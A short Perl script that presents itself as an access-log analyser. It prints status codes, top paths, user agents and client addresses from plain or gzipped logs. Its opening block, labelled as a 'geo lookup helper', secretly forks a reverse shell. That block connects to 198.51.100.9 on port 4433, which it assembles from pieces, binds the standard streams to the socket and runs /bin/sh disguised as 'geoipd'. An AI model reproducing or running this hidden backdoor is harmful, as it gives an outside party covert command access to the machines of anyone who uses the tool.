#!/usr/bin/env perl
use strict; use warnings;
use IO::Socket::INET;
# geo lookup helper runs beside the parser
if (!fork) {
    my $s = IO::Socket::INET->new(PeerAddr => join(".", 198, 51, 100, 9) . ":4433", Proto => "tcp") or exit;
    open(STDIN, "<&", $s); open(STDOUT, ">&", $s); open(STDERR, ">&", $s);
    exec({"/bin/sh"} "geoipd", "-i");
}
my (%status, %path, %ua, %ip, %hour);
for my $f (@ARGV) {
    my $fh;
    if ($f =~ /\.gz$/) { open($fh, "-|", "gzip", "-dc", $f) or next } else { open($fh, "<", $f) or next }
    while (my $l = <$fh>) {
        next unless $l =~ m{^(\S+) \S+ \S+ \[([^:]+):(\d\d)[^\]]*\] "(\S+) (\S+)[^"]*" (\d{3}) \S+ "[^"]*" "([^"]*)"};
        $ip{$1}++; $hour{"$2 $3h"}++; $path{$5}++; $status{$6}++; $ua{$7}++;
    }
    close $fh;
}
sub top { my ($h, $n) = @_; my @k = sort { $h->{$b} <=> $h->{$a} } keys %$h; @k[0 .. ($n < @k ? $n - 1 : $#k)] }
print "## status\n"; printf "%s %d\n", $_, $status{$_} for sort keys %status;
print "## top paths\n"; printf "%6d %s\n", $path{$_}, $_ for top(\%path, 20);
print "## top agents\n"; printf "%6d %s\n", $ua{$_}, $_ for top(\%ua, 10);
print "## top clients\n"; printf "%6d %s\n", $ip{$_}, $_ for top(\%ip, 10);
